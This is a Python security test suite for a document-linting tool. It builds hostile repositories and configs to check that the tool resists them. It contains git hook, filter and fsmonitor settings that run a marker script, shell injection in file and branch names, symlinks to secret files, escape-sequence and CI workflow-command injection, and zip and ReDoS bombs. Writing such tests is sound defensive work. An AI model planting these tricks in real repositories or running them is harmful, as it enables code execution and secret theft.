conf_case("conf-toml-100k-paths", lambda f, o: "".join(f'[[paths]]\nmatch = ["**/x{i}/**/*.md"]\noff = ["a.b{i}"]\n' for i in range(50_000)), [LINT, CHECK])
conf_case("conf-toml-glob-bomb", lambda f, o: '[[paths]]\nmatch = ["' + "**/" * 400 + '*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b.md", "' + "*" * 5000 + 'z", "{' + "a,{" * 3000 + '", "[' + "!" * 4000 + '", "[z-a]", "(a+)+$"]\nfail_on = "error"\n',
          [LINT, CHECK], extra=lambda f, o: w(f / ("a" * 200 + ".md"), DOC))
conf_case("conf-toml-invalid-utf8", b'\xef\xbb\xbfrules = ["\xff\xfe\x00"]\n', [LINT])
conf_case("conf-toml-utf16", lambda f, o: "rules = []\n".encode("utf-16"), [LINT])
conf_case("conf-toml-huge-integer", lambda f, o: "context = " + "9" * 500_000 + "\n", [LINT])
conf_case("conf-toml-odd-numbers", "context = nan\nthreads = inf\ngpu_layers = -9223372036854775809\n[limits]\nfile_mib = 1e308\npages = 0x7fffffffffffffffffff\nnesting = true\n", [LINT])
conf_case("conf-toml-dates", "language = 1979-05-27T07:32:00Z\nrules = [0001-01-01, 9999-12-31T23:59:60Z]\nmodel = 25:61:61\n", [LINT])
conf_case("conf-toml-escapes-in-keys", '"\\u001b]0;PWNED\\u0007\\u001b[2J" = 1\n"\\u001b[31mevil" = "\\u001b]8;;http://evil\\u0007"\nlanguage = "\\u001b[2Jxx"\nmodel = "\\u009b31m"\n', [LINT, CHECK, ["checker", "doctor"]])
conf_case("conf-toml-workflow-commands", '"x\\n::error file=a.md::owned\\n::set-output name=x::y\\n::add-mask::x" = 1\n', [[*LINT, "--format", "github"]],
          must_not_contain=["\n::set-output", "\n::add-mask"], env={"GITHUB_ACTIONS": "true"})
conf_case("conf-limits-raised-zip-bomb", "[limits]\nfile_mib = 4096\ntext_mib = 1024\nunpacked_mib = 16384\nxml_mib = 4096\nparts = 1000000\nratio = 10000\nblocks = 10000000\npages = 100000\nnesting = 100\n",
          [LINT], extra=lambda f, o: docx_bomb(f / "bomb.docx", 900), note="the folder itself raises the limits")
conf_case("conf-limits-raised-nesting", "[limits]\nblocks = 10000000\nnesting = 100\nxml_mib = 4096\n", [LINT],
          extra=lambda f, o: docx(f / "deep.docx", "<w:tbl><w:tr><w:tc>" * 99 + para("x") + "</w:tc></w:tr></w:tbl>" * 99))
conf_case("conf-jobs-256", "[lint]\njobs = 256\n", [LINT], extra=lambda f, o: [w(f / f"d{i}.md", DOC) for i in range(600)],
          note="256 processes would not fit into 1 GiB together")
conf_case("conf-pyproject-link-to-secret", "[lint]\n", [LINT, CHECK], extra=lambda f, o: [(f / CONF).unlink(), link(f / "pyproject.toml", o / "secret.env")])
conf_case("conf-link-to-secret", "x", [LINT, CHECK, ["checker", "doctor"]], extra=lambda f, o: [(f / CONF).unlink(), link(f / CONF, o / "secret.env")])
conf_case("conf-both-and-env", '[tool.checker]\nmodel = "/etc/passwd"\n[tool.checker.lint]\ncache_file = "x/../../outside/victim.txt"\n[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n',
          [LINT], file="pyproject.toml", extra=lambda f, o: w(f / "evil.py", f"import os\nos.system({run_it(o, 'backend')!r})\n"))
conf_case("conf-is-fifo", "x", [LINT, CHECK], extra=lambda f, o: [(f / CONF).unlink(), os.mkfifo(f / CONF)])
conf_case("conf-is-zero", "x", [LINT, CHECK], extra=lambda f, o: [(f / CONF).unlink(), link(f / CONF, "/dev/zero")])
conf_case("conf-is-folder", "x", [LINT, CHECK], extra=lambda f, o: [(f / CONF).unlink(), (f / CONF).mkdir()])
conf_case("conf-pyproject-is-sparse", "x", [LINT, CHECK], extra=lambda f, o: [(f / CONF).unlink(), sparse(f / "pyproject.toml", 8 << 30)])
conf_case("conf-dunder-names", '[[paths]]\nmatch = ["*"]\noff = ["__class__"]\nruleset = "__builtins__"\n[paths.severity]\n"__init__.__globals__" = "error"\n', [LINT])
conf_case("conf-dotenv", "fail_on = \"error\"\n", [LINT, [*WITH_MODEL]], doc=JUDGED, extra=lambda f, o: [judge_files(f, o), w(f / ".env", "CHECKER_MODEL=openai:x\nCHECKER_ENDPOINT__URL=http://127.0.0.1:@PORT@/v1\nCHECKER_LINT__CACHE_FILE=../outside/victim.txt\n"),
          w(f / "secrets/CHECKER_MODEL", "openai:x")], endpoint="record", endpoint_forbidden=True)

# ================================================================ git

GIT = "git"


def git_case(name, text, commands=G, setup=None, after=None, **more):
    """A repository with changes, one staged (a.md) and one not (b.md), and lines added to .git/config."""

    def build(folder, outside):
        repo(folder)
        if setup:
            setup(folder, outside)
        config(folder, text(folder, outside) if callable(text) else text)
        if after:
            after(folder, outside)

    CASES.append(Case(name, GIT, build, [list(c) for c in commands], **more))


def evil(folder, outside, what="git", tail=""):
    return script(folder / "evil.sh", outside, what, tail)


def path_of(f):
    return f / "evil.sh"


FOUND = ["ja-business.date"]
git_case("git-fsmonitor", lambda f, o: f"[core]\n\tfsmonitor = {evil(f, o, 'fsmonitor')}\n\tfsmonitorHookVersion = 2\n", must_contain=FOUND)
git_case("git-fsmonitor-shell-text", lambda f, o: f'[core]\n\tfsmonitor = "sh -c \\"{run_it(o, "fsmonitor")}\\""\n\tuntrackedCache = true\n[feature]\n\tmanyFiles = true\n')
git_case("git-hooks-path", lambda f, o: "[core]\n\thooksPath = hooks\n", setup=lambda f, o: [
    script(f / "hooks" / h, o, f"hook-{h}") for h in ("post-index-change", "post-checkout", "reference-transaction", "pre-commit", "fsmonitor-watchman", "pre-auto-gc", "post-merge", "post-rewrite")])
git_case("git-hooks-default", "", after=lambda f, o: [
    script(f / ".git/hooks" / h, o, f"hook-{h}") for h in ("post-index-change", "post-checkout", "reference-transaction", "pre-commit", "fsmonitor-watchman", "pre-auto-gc", "post-merge")])
git_case("git-filter-smudge-clean", lambda f, o: f"[filter \"x\"]\n\tclean = {evil(f, o, 'clean', 'cat')}\n\tsmudge = {path_of(f)}\n\trequired = true\n",
         after=lambda f, o: [w(f / ".gitattributes", "*.md filter=x\n"), w(f / ".git/info/attributes", "*.md filter=x\n"), os.utime(f / "a.md", (1, 1))], must_contain=FOUND)
git_case("git-filter-process", lambda f, o: f"[filter \"x\"]\n\tprocess = {evil(f, o, 'process', 'cat')}\n\trequired = true\n",
         after=lambda f, o: [w(f / ".gitattributes", "* filter=x\n"), os.utime(f / "b.md", (1, 1))])
git_case("git-filter-lfs-name", lambda f, o: f"[filter \"lfs\"]\n\tclean = {evil(f, o, 'lfs', 'cat')} %f\n\tsmudge = {path_of(f)} -- %f\n\tprocess = {path_of(f)}\n[lfs]\n\tfetchinclude = *\n",
         after=lambda f, o: [w(f / ".gitattributes", "*.md filter=lfs diff=lfs merge=lfs -text\n"), w(f / ".lfsconfig", "[lfs]\nurl = http://127.0.0.1:@PORT@/\n")], endpoint="record", endpoint_forbidden=True)
git_case("git-textconv", lambda f, o: f"[diff \"x\"]\n\ttextconv = {evil(f, o, 'textconv', 'cat $1')}\n", after=lambda f, o: w(f / ".gitattributes", "*.md diff=x\n"), must_contain=FOUND)
git_case("git-diff-external", lambda f, o: f"[diff]\n\texternal = {evil(f, o, 'external')}\n", must_contain=FOUND)
git_case("git-diff-driver-command", lambda f, o: f"[diff \"x\"]\n\tcommand = {evil(f, o, 'diff-command')}\n", after=lambda f, o: w(f / ".gitattributes", "* diff=x\n"), must_contain=FOUND)


def missing_blob(folder, outside):
    """HEAD's blob of a.md is gone and promised by a remote that runs a command."""
    sha = git(folder, "rev-parse", "HEAD:a.md").decode().strip()
    p = folder / ".git/objects" / sha[:2] / sha[2:]
    p.chmod(0o600)
    p.unlink()


for _n, _url, _extra in (
    ("ssh", "ssh://x/y", lambda f, o: f"[core]\n\tsshCommand = {evil(f, o, 'ssh')}\n"),
    ("ext", None, lambda f, o: "[protocol \"ext\"]\n\tallow = always\n"),
    ("uploadpack", "@F@/.git", lambda f, o: f"[remote \"origin\"]\n\tuploadpack = {evil(f, o, 'uploadpack')}\n[core]\n\tgitProxy = {path_of(f)}\n[protocol]\n\tallow = always\n"),
):
    def _make(url, extra):
        return lambda f, o: (f"[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n\turl = {url.replace('@F@', str(f)) if url else 'ext::' + str(evil(f, o, 'ext'))}\n\tpromisor = true\n"
                             "\tpartialclonefilter = blob:none\n" + extra(f, o))
    git_case(f"git-promisor-{_n}", _make(_url, _extra), after=missing_blob)

git_case("git-promisor-local-packhook", lambda f, o: f"[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n\turl = {f}/other\n\tpromisor = true\n[uploadpack]\n\tpackObjectsHook = {evil(f, o, 'packhook')}\n",
         setup=lambda f, o: [repo(f / "other", False), config(f / "other", f"[uploadpack]\n\tpackObjectsHook = {f}/evil.sh\n\tallowFilter = true\n\tallowAnySHA1InWant = true\n")], after=missing_blob)
git_case("git-promisor-network", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n\turl = http://127.0.0.1:@PORT@/x.git\n\tpromisor = true\n",
         after=missing_blob, endpoint="record", endpoint_forbidden=True)
git_case("git-pager-editor-alias", lambda f, o: f"[core]\n\tpager = {evil(f, o, 'pager')}\n\teditor = {path_of(f)}\n\taskPass = {path_of(f)}\n[pager]\n\tdiff = {path_of(f)}\n\tlog = {path_of(f)}\n\tls-files = {path_of(f)}\n\tstatus = {path_of(f)}\n\tshow = {path_of(f)}\n"
         f"[alias]\n\tdiff = !{path_of(f)}\n\trev-parse = !{path_of(f)}\n\tls-files = !{path_of(f)}\n\tstatus = !{path_of(f)}\n[sequence]\n\teditor = {path_of(f)}\n[interactive]\n\tdiffFilter = {path_of(f)}\n", must_contain=FOUND)
git_case("git-include-outside", lambda f, o: f"[include]\n\tpath = {rel(f / '.git', o)}/gitconfig\n[includeIf \"gitdir:/**\"]\n\tpath = ../conf.inc\n[includeIf \"onbranch:**\"]\n\tpath = ../conf.inc\n",
         setup=lambda f, o: w(f / "conf.inc", f"[core]\n\tfsmonitor = {evil(f, o, 'included')}\n[diff]\n\texternal = {path_of(f)}\n"))
git_case("git-include-secret-as-config", lambda f, o: f"[include]\n\tpath = {o}/secret.env\n", note="git says 'bad config line 1 in file'; the line itself must not be shown")
git_case("git-core-worktree-outside", lambda f, o: f"[core]\n\tworktree = {o}\n", setup=lambda f, o: all_rules(f),
         commands=[[*LINT_ALL, "--staged"], [*LINT_ALL, "--changed-since", "HEAD"], [*LINT_ALL, "--changed-since", "HEAD", "--diff-only"]],
         after=lambda f, o: w(o / "a.md", f"# 秘密\n\n{SECRET}\n"))


@case("git-embedded-bare", GIT, G + [])
def _(folder, outside):
    """The folder's own plain files make a bare repository (HEAD, objects, refs, config)."""
    tmp = folder / "t"
    repo(tmp)
    for p in (tmp / ".git").iterdir():
        shutil.move(str(p), folder / p.name)
    shutil.rmtree(tmp)
    w(folder / "a.md", DOC)
    cfg = (folder / "config").read_text()
    w(folder / "config", cfg + f"[core]\n\tworktree = {folder}\n\tfsmonitor = {evil(folder, outside, 'bare')}\n[diff]\n\texternal = {folder}/evil.sh\n")


@case("git-embedded-bare-below", GIT, [["checker", "lint", "docs", "--no-model", "--staged"], ["sh", "-c", "cd docs/inner && exec checker lint . --no-model --changed-since HEAD"], SINCE])
def _(folder, outside):
    repo(folder)
    repo(folder / "t")
    inner = folder / "docs/inner"
    shutil.copytree(folder / "t/.git", inner)
    shutil.rmtree(folder / "t")
    w(inner / "a.md", DOC)
    w(inner / "config", f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = {inner}\n\tfsmonitor = {evil(folder, outside, 'bare-below')}\n[diff]\n\texternal = {folder}/evil.sh\n")


@case("git-gitdir-file", GIT, G)
def _(folder, outside):
    repo(folder)
    shutil.move(str(folder / ".git"), folder / "data")
    w(folder / ".git", "gitdir: data\n")
    with (folder / "data/config").open("a") as f:
        f.write(f"[core]\n\tfsmonitor = {evil(folder, outside, 'gitdir')}\n[diff]\n\texternal = {folder}/evil.sh\n")


@case("git-gitdir-file-odd", GIT, G)
def _(folder, outside):
    w(folder / "a.md", DOC)
    w(folder / ".git", f"gitdir: {outside}/secret.env\n{ESC}[2J" + "x" * 3_000_000)


@case("git-dir-is-link", GIT, G)
def _(folder, outside):
    repo(outside / "repo")
    config(outside / "repo", f"[core]\n\tfsmonitor = {evil(folder, outside, 'linked')}\n\tworktree = {folder}\n")
    w(folder / "a.md", DOC)
    link(folder / ".git", outside / "repo/.git")


@case("git-commondir-and-worktrees", GIT, G)
def _(folder, outside):
    repo(folder)
    shutil.move(str(folder / ".git"), folder / "common")
    g = folder / ".git"
    g.mkdir()
    w(g / "HEAD", "ref: refs/heads/main\n")
    w(g / "commondir", "../common\n")
    w(g / "gitdir", f"{folder}/.git\n")
    shutil.copy(folder / "common/index", g / "index")
    with (folder / "common/config").open("a") as f:
        f.write(f"[diff]\n\texternal = {evil(folder, outside, 'commondir')}\n")


git_case("git-worktree-config", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n",
         after=lambda f, o: w(f / ".git/config.worktree", f"[core]\n\tfsmonitor = {evil(f, o, 'worktreeconfig')}\n[diff]\n\texternal = {path_of(f)}\n"))
git_case("git-output-format-tricks", "[color]\n\tui = always\n\tdiff = always\n[diff]\n\tnoprefix = true\n\tmnemonicPrefix = true\n\tsrcPrefix = x/\n\tdstPrefix = y/\n\trelative = true\n\tcontext = 99\n\tinterHunkContext = 9999\n\trenames = copies\n\twordRegex = .\n"
         "\tcolorMoved = zebra\n\tsubmodule = log\n\tignoreSubmodules = all\n\talgorithm = minimal\n\tstatGraphWidth = 1\n\tindentHeuristic = false\n\twsErrorHighlight = all\n\tsuppressBlankEmpty = true\n[core]\n\tquotePath = false\n\tprecomposeUnicode = true\n\tignoreCase = true\n[log]\n\tshowSignature = true\n\tshowRoot = false\n[status]\n\trelativePaths = true\n\tshort = true\n\tbranch = true\n[column]\n\tui = always\n",
         must_contain=FOUND)
git_case("git-attributes-hide", "", after=lambda f, o: w(f / ".gitattributes", "*.md -diff binary -text linguist-generated export-ignore ident eol=crlf\n"), must_contain=FOUND)
git_case("git-skip-worktree-and-filemode", "[core]\n\tfilemode = false\n\ttrustctime = false\n\tcheckStat = minimal\n\tsparseCheckout = true\n\tautocrlf = true\n\tsafecrlf = true\n",
         after=lambda f, o: [git(f, "update-index", "--assume-unchanged", "b.md"), w(f / ".git/info/sparse-checkout", "/nothing\n")])
git_case("git-encoding-attribute", "", after=lambda f, o: w(f / ".gitattributes", "*.md working-tree-encoding=UTF-16LE-BOM text\nb.md working-tree-encoding=" + "X" * 5000 + "\n"))
git_case("git-gpg-and-credentials", lambda f, o: f"[gpg]\n\tprogram = {evil(f, o, 'gpg')}\n[gpg \"ssh\"]\n\tprogram = {path_of(f)}\n\tdefaultKeyCommand = {path_of(f)}\n[log]\n\tshowSignature = true\n[commit]\n\tgpgSign = true\n[credential]\n\thelper = !{path_of(f)}\n[merge \"x\"]\n\tdriver = {path_of(f)}\n[remote \"origin\"]\n\turl = https://127.0.0.1:1/x\n\tvcs = ../../evil\n[trailer \"x\"]\n\tcommand = {path_of(f)}\n[diff]\n\ttool = x\n[difftool \"x\"]\n\tcmd = {path_of(f)}\n")


@case("git-submodule-fsmonitor", GIT, G)
def _(folder, outside):
    repo(folder)
    repo(folder / "sub")
    git(folder, "-c", "advice.addEmbeddedRepo=false", "add", "sub")
    config(folder / "sub", f"[core]\n\tfsmonitor = {evil(folder, outside, 'submodule')}\n[diff]\n\texternal = {folder}/evil.sh\n[filter \"x\"]\n\tclean = {folder}/evil.sh\n")
    w(folder / "sub/.gitattributes", "* filter=x\n")
    w(folder / ".gitmodules", f'[submodule "sub"]\n\tpath = sub\n\turl = ext::{folder}/evil.sh\n\tignore = none\n')
    config(folder, f'[submodule "sub"]\n\tactive = true\n\tupdate = !{folder}/evil.sh\n[submodule]\n\trecurse = true\n[diff]\n\tsubmodule = diff\n[status]\n\tsubmoduleSummary = true\n[protocol "ext"]\n\tallow = always\n')
    os.utime(folder / "sub/a.md", (1, 1))


@case("git-submodule-gitfile-outside", GIT, G)
def _(folder, outside):
    repo(folder)
    repo(outside / "mod")
    config(outside / "mod", f"[core]\n\tfsmonitor = {evil(folder, outside, 'sub-gitfile')}\n")
    (folder / "sub").mkdir()
    sha = git(outside / "mod", "rev-parse", "HEAD").decode().strip()
    git(folder, "update-index", "--add", "--cacheinfo", f"160000,{sha},sub")
    w(folder / "sub/.git", f"gitdir: {outside}/mod/.git\n")
    w(folder / "sub/a.md", DOC)


@case("git-odd-staged-names", GIT, G)
def _(folder, outside):
    repo(folder)
    for n in (b"-o.md", b"--output=x.md", b"new\nline.md", b"tab\there.md", b'quo"te.md', b"back\\slash.md", b"esc\x1b[31m.md", b"\xff\xfe.md", b" lead.md", b"trail .md", "‮dm.exe.md".encode(),
              b":(top)x.md", b":!x.md", b"*.md", b"[a].md", b"a => b.md", b"{a => b}.md", b"b/c.md", b"$(touch ran).md", b"%s%n.md", b"\x01.md", b"::error::x.md"):
        p = os.path.join(os.fsencode(folder), n)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb") as f:
            f.write(DOC.encode())
    git(folder, "add", "-A")


@case("git-index-symlink-to-secret", GIT, [[*LINT_ALL, "--staged"], [*LINT_ALL, "--changed-since", "HEAD"], LINT_ALL])
def _(folder, outside):
    repo(folder)
    all_rules(folder)
    link(folder / "s.md", rel(folder, outside / "secret.env"))
    link(folder / "sub/dir", outside)
    w(outside / "inner.md", f"# x\n\n{SECRET}\n")
    git(folder, "add", "-A")


@case("git-index-file-worktree-symlink", GIT, [[*LINT_ALL, "--staged"], [*LINT_ALL, "--changed-since", "HEAD"], [*LINT_ALL, "--changed-since", "HEAD", "--diff-only"]])
def _(folder, outside):
    """Staged as a file, in the working tree a link; and a folder that became a link."""
    repo(folder)
    all_rules(folder)
    w(folder / "d/inner.md", "# 元\n")
    git(folder, "add", "-A")
    git(folder, "commit", "-qm", "two")
    w(folder / "d/inner.md", DOC)
    git(folder, "add", "-A")
    shutil.rmtree(folder / "d")
    w(outside / "inner.md", f"# x\n\n{SECRET}\n")
    link(folder / "d", outside)
    (folder / "a.md").unlink()
    link(folder / "a.md", outside / "secret.env")


def crafted_index(names):
    def build(folder, outside):
        repo(folder)
        sha = blob(folder, DOC.encode())
        w(folder / ".git/index", index_v2(sorted((n.replace(b"@", os.fsencode(outside)) if b"@" in n else n, m, sha) for n, m in names)))
    return build


CASES.append(Case("git-index-traversal-names", GIT, crafted_index([(b"../../pwned.md", 0o100644), (b"../outside/new.md", 0o100644), (b"/tmp/pwned-by-index.md", 0o100644), (b"a/../../outside/victim.md", 0o100644), (b"a.md", 0o100644)]), G))
CASES.append(Case("git-index-dotgit-names", GIT, crafted_index([(b".git/config.md", 0o100644), (b".GIT/hooks/post-checkout.md", 0o100755), (b"git~1/x.md", 0o100644), (b".g\xe2\x80\x8cit/x.md", 0o100644), (b"a.md", 0o100644)]), G))
CASES.append(Case("git-index-odd-modes", GIT, crafted_index([(b"a.md", 0o120000), (b"b.md", 0o160000), (b"c.md", 0o040000), (b"d.md", 0), (b"e.md", 0o177777)]), G))
CASES.append(Case("git-index-dir-file-conflict", GIT, crafted_index([(b"a.md", 0o100644), (b"a.md/b.md", 0o100644), (b"a.md/b.md/c.md", 0o120000), (b"x" * 5000 + b".md", 0o100644)]), G))
git_case("git-index-garbage", "", after=lambda f, o: w(f / ".git/index", b"DIRC" + struct.pack(">II", 2, 0xFFFFFFFF) + os.urandom(5000)))
git_case("git-index-fifo", "", after=lambda f, o: [(f / ".git/index").unlink(), os.mkfifo(f / ".git/index")])
git_case("git-head-fifo", "", after=lambda f, o: [(f / ".git/HEAD").unlink(), os.mkfifo(f / ".git/HEAD")])
git_case("git-head-loop-and-odd-refs", "", after=lambda f, o: [w(f / ".git/HEAD", "ref: refs/heads/loop\n"), w(f / ".git/refs/heads/loop", "ref: refs/heads/loop2\n"), w(f / ".git/refs/heads/loop2", "ref: refs/heads/loop\n"), w(f / ".git/refs/heads/--output=x", "0" * 40 + "\n")])
git_case("git-config-fifo", "", after=lambda f, o: [(f / ".git/config").unlink(), os.mkfifo(f / ".git/config")], commands=[*G, LINT][:3])
git_case("git-config-huge", "", after=lambda f, o: big(f / ".git/config", b"[a]\n\tb = " + b"c" * 1000 + b"\n", 20_000))
git_case("git-alternates-fifo", "", after=lambda f, o: [os.mkfifo(f / "fifo"), w(f / ".git/objects/info/alternates", f"{f}/fifo\n/proc/self/root\n{o}\n")])
git_case("git-order-and-excludes-fifo", lambda f, o: f"[diff]\n\torderFile = {f}/fifo\n[core]\n\texcludesFile = {f}/fifo\n\tattributesFile = {f}/fifo\n[blame]\n\tignoreRevsFile = {f}/fifo\n[mailmap]\n\tfile = {f}/fifo\n",
         setup=lambda f, o: os.mkfifo(f / "fifo"))
git_case("git-excludes-zero", "[core]\n\texcludesFile = /dev/zero\n\tattributesFile = /dev/urandom\n[diff]\n\torderFile = /dev/zero\n", note="git itself may read without end: the checker needs a time limit")
git_case("git-gitignore-fifo", "", after=lambda f, o: [os.mkfifo(f / ".gitignore"), (f / ".git/info/exclude").unlink(missing_ok=True), os.mkfifo(f / ".git/info/exclude"), os.mkfifo(f / ".gitattributes")], commands=[LINT, STAGED, SINCE])
git_case("git-gitignore-bomb", "", after=lambda f, o: [w(f / ".gitignore", "".join("**/" * 100 + "*a*a*a*a*a*a*a*b" + str(i) + "\n" for i in range(2000)) + "[" + "!" * 9999 + "\n" + "\\" * 9999 + "\n" + "*" * 9999 + "b\n" + "(a+)+$\n"),
                                                       [w(f / ("a" * 100) / ("a" * 100 + f"{i}.md"), DOC) for i in range(10)]], commands=[LINT, STAGED, SINCE])
git_case("git-gitignore-link-to-secret", "", after=lambda f, o: link(f / ".gitignore", o / "secret.env"), commands=[LINT, STAGED, SINCE])


def zlib_bomb_object(folder, outside):
    """A loose object of 600 MiB of zeros, staged as big.md."""
    import hashlib
    n = 600
    head = b"blob %d\0" % (n << 20)
    block = bytes(1 << 20)
    h = hashlib.sha1(head)
    for _ in range(n):
        h.update(block)
    c = zlib.compressobj(9)
    out = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    one = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    out += one * n
    adler = zlib.adler32(head)
    for _ in range(n):
        adler = zlib.adler32(block, adler)
    out += b"\x03\x00" + struct.pack(">I", adler)
    sha = h.hexdigest()
    w(folder / ".git/objects" / sha[:2] / sha[2:], out)
    git(folder, "update-index", "--add", "--cacheinfo", f"100644,{sha},big.md")


git_case("git-staged-blob-bomb", "", after=zlib_bomb_object)
git_case("git-objects-garbage", "", after=lambda f, o: [(p.chmod(0o600), p.write_bytes(os.urandom(200))) for p in (f / ".git/objects").glob("??/*")])
git_case("git-pack-garbage", "", after=lambda f, o: [w(f / f".git/objects/pack/pack-{'0' * 40}.idx", b"\xfftOc" + struct.pack(">I", 2) + b"\xff" * 1024 + os.urandom(9000)), w(f / f".git/objects/pack/pack-{'0' * 40}.pack", b"PACK" + struct.pack(">II", 2, 0xFFFFFFFF))])


@case("git-deep-tree", GIT, G)
def _(folder, outside):
    """A staged path of 1500 folders that could not exist on disk."""
    repo(folder)
    sha = blob(folder, DOC.encode()).hex()
    git(folder, "update-index", "--add", "--cacheinfo", f"100644,{sha}," + "/".join(["d"] * 1500) + "/x.md")


@case("git-unmerged-index", GIT, G)
def _(folder, outside):
    repo(folder)
    sha = blob(folder, DOC.encode()).hex()
    git(folder, "update-index", "--index-info", data=f"100644 {sha} 1\tc.md\n100644 {sha} 2\tc.md\n120000 {sha} 3\tc.md\n".encode())


git_case("git-ref-as-option", "", commands=[[*LINT, f"--changed-since={x}"] for x in ("--output=../outside/victim.txt", "--ext-diff", "-O/dev/zero")], setup=lambda f, o: None)
git_case("git-ref-odd", lambda f, o: f"[diff]\n\texternal = {evil(f, o, 'ref-odd')}\n", commands=[[*LINT, "--changed-since", x] for x in ("HEAD; touch ../outside/ran.log", "HEAD^{/(a+)+$}", "@{-1}\n--output=../outside/x")])
git_case("git-ref-odd-2", "", commands=[[*LINT, "--changed-since", x] for x in (":/" + "(a|a)*" * 30 + "b", "HEAD" + "~1" * 20_000, f"{ESC}[31mx")])
git_case("git-shallow-grafts-replace", "", after=lambda f, o: [w(f / ".git/shallow", "x" * 100 + "\n"), w(f / ".git/info/grafts", "\n".join(["0" * 40] * 1000)), w(f / ".git/refs/replace/" / ("1" * 40), "2" * 40)])
git_case("git-many-changed-files", "", after=lambda f, o: [[w(f / f"many/{i}.md", "x\n") for i in range(800)], git(f, "add", "-A")])
git_case("git-diff-with-fake-headers", "", after=lambda f, o: [w(f / "b.md", "# x\n\n本文。\n+++ b/../../outside/victim.txt\n@@ -1,99999999999 +1,99999999999 @@\n--- a/x\ndiff --git a/x b/y\n\x00\n2025年8月1日(木)\n"), git(f, "add", "-A")])
git_case("git-env-of-hook", "", commands=G, env={"GIT_DIR": "@FOLDER@/.git", "GIT_WORK_TREE": "@OUTSIDE@", "GIT_EXTERNAL_DIFF": "@FOLDER@/evil.sh", "GIT_SSH_COMMAND": "@FOLDER@/evil.sh", "GIT_PAGER": "@FOLDER@/evil.sh"},
         setup=lambda f, o: evil(f, o, "env"), note="the environment is the user's: only crashes and writes count here; drop it if running evil.sh is held to be the user's wish")


@case("git-binary-in-folder", GIT, [LINT, STAGED, SINCE], note="a program named git, git.exe or git.bat in the folder; PATH as the runner has it")
def _(folder, outside):
    repo(folder)
    for n in ("git", "git.exe", "git.bat", "git.cmd", "sh", "python3"):
        script(folder / n, outside, f"binary-{n}")


@case("git-home-in-folder", GIT, G, env={"XDG_CONFIG_HOME": "@FOLDER@/.config"}, note="XDG_CONFIG_HOME set by the user inside the checkout: drop it if that is held to be the user's own fault")
def _(folder, outside):
    repo(folder)
    w(folder / ".config/git/config", f"[core]\n\tfsmonitor = {evil(folder, outside, 'xdg')}\n[diff]\n\texternal = {folder}/evil.sh\n")


@case("git-init-in-hostile", GIT, [["checker", "init", ".", "--pre-commit"], ["checker", "init", ".", "--dry-run"]])
def _(folder, outside):
    repo(folder)
    config(folder, f"[core]\n\tfsmonitor = {evil(folder, outside, 'init')}\n\tworktree = {outside}\n[diff]\n\texternal = {folder}/evil.sh\n[remote \"origin\"]\n\turl = ext::{folder}/evil.sh\n")


@case("git-branch-name-into-ci", GIT, [["checker", "init", ".", "--ci", "github"], ["checker", "init", ".", "--ci", "jenkins"], ["sh", "-c", "cat .github/workflows/*.yml Jenkinsfile"]],
      must_not_contain=["\n      - run: touch"])
def _(folder, outside):
    """The branch's name goes into a workflow: a name that closes the YAML string or runs in the shell."""
    repo(folder)
    sha = git(folder, "rev-parse", "HEAD").decode().strip()
    name = "x\"];touch${IFS}ran;'#$(id)"
    w(folder / ".git/HEAD", f"ref: refs/heads/{name}\n")
    w(folder / f".git/refs/heads/{name}", sha + "\n")
    d = folder / "docs; touch ran #\n      - run: touch ran"
    w(d / "a.md", DOC)

# ================================================================ paths and links

PATHS = "paths"


def raw(folder: Path, name: bytes, data: bytes = DOC.encode()) -> None:
    p = os.path.join(os.fsencode(folder), name)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)


@case("path-symlinks-to-files-outside", PATHS, [LINT_ALL, [*LINT_ALL, "--format", "html", "-o", ".r.html"], ["sh", "-c", "cat .r.html"]])
def _(folder, outside):
    all_rules(folder)
    for n in ("s.md", "s.txt", "s.html"):
        link(folder / n, outside / "secret.env")
    link(folder / "rel.md", rel(folder, outside / "secret.env"))
    link(folder / "chain.md", "s.md")


@case("path-symlinks-to-folders-outside", PATHS, [LINT_ALL, [*LINT, "-r", "all.yaml", "**/*.md"], [*LINT, "-r", "all.yaml", "docs/**/*.txt", "docs"]],
      note="a link named on the command line itself would be the user's wish; here only folders and globs are named")
def _(folder, outside):
    all_rules(folder)
    w(outside / "inner.md", f"# x\n\n{SECRET}\n")
    w(outside / "inner.txt", f"{SECRET}\n")
    link(folder / "out", outside)
    link(folder / "docs/out", outside)
    link(folder / "docs/root", "/proc/self/root")
    link(folder / "docs/cwd", "/proc/self/cwd")


@case("path-symlink-loops", PATHS, [LINT, [*LINT, "**/*.md"], ["checker", "init", ".", "--dry-run"]])
def _(folder, outside):
    w(folder / "a.md", DOC)
    link(folder / "self", ".")
    link(folder / "up", "..")
    link(folder / "x/y", "../x")
    link(folder / "l1.md", "l2.md")
    link(folder / "l2.md", "l1.md")
    for i in range(10):
        link(folder / f"d/l{i}", "..")


@case("path-dangling-links", PATHS, [LINT, ["checker", "check", "dangling.md", "--no-model"], ["checker", "fix", "dangling.md", "--in-place"]])
def _(folder, outside):
    link(folder / "dangling.md", outside / "not-there.md")
    link(folder / "longtarget.md", "x/" * 2000)


@case("path-special-files", PATHS, [LINT, ["checker", "check", "fifo.md", "--no-model"], ["checker", "show", "fifo.docx"]])
def _(folder, outside):
    w(folder / "a.md", DOC)
    for n in ("fifo.md", "fifo.docx", "fifo.pdf"):
        os.mkfifo(folder / n)
    subprocess.run([sys.executable, "-c", "import socket; socket.socket(socket.AF_UNIX).bind('sock.md')"], cwd=folder, check=True)


@case("path-devices", PATHS, [LINT, ["checker", "check", "zero.md", "--no-model"], ["checker", "check", "zero.docx", "zero.pdf", "--no-model"]])
def _(folder, outside):
    for ext in ("md", "docx", "pdf", "html", "xlsx"):
        link(folder / f"zero.{ext}", "/dev/zero")
        link(folder / f"random.{ext}", "/dev/urandom")
    link(folder / "full.md", "/dev/full")
